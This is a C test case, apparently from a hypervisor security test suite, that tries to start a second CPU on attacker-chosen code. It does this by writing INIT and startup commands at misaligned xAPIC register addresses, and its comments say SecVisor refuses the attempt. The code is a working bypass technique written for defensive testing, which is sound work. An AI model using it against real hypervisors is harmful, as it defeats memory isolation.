// Row 18. The same commands, written between two registers of the xAPIC's page, where some machines see the register below.
// Source: QEMU decodes bits 4 to 11 of the address only (hw/intc/apic.c); APM 2, 16.3.2 leaves such accesses undefined.
// Ends: natively succeeded; beneath SecVisor refused, apic.
#include "common/attack.h"
#include <unistd.h>

ATTACK("start-xapic-between")
{
	u64 page = prepare_start_saying("start-xapic-between", "the second CPU ran our code", 0),
	    apic = map_physical(0xfee00000, KERNEL_DATA | 0x18);

	if (set_online(1, 0))
		failed("the second CPU stays online");
	about_to("start the second CPU");
	operate(VULNERABLE_STORE, apic + 0x310, 1 << 24, 4);
	operate(VULNERABLE_STORE, apic + 0x304, 0x4500, 4);
	usleep(20000);
	operate(VULNERABLE_STORE, apic + 0x310, 1 << 24, 4);
	operate(VULNERABLE_STORE, apic + 0x304, 0x4600 | START_PAGE >> 12, 4);
	if (seen(page))
		succeeded("the second CPU ran code at %#llx", START_PAGE);
	refused("the second CPU did not start at %#llx", START_PAGE);
}
